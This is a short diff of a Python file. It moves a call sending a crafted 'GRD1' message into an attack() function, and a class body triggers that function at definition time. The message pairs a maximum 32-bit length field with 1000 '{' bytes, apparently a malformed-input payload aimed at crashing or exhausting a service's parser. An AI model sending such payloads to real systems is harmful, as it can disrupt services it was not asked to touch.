@@ -28,7 +28,12 @@ def send(data):
             continue
 
 
-send(b"GRD1" + struct.pack("<I", 2**32 - 1) + b"{" * 1000)
+def attack():
+    send(b"GRD1" + struct.pack("<I", 2**32 - 1) + b"{" * 1000)
+
+
+class Attack:
+    attack()
 
 
 def compare(epochs, seed, train, test):
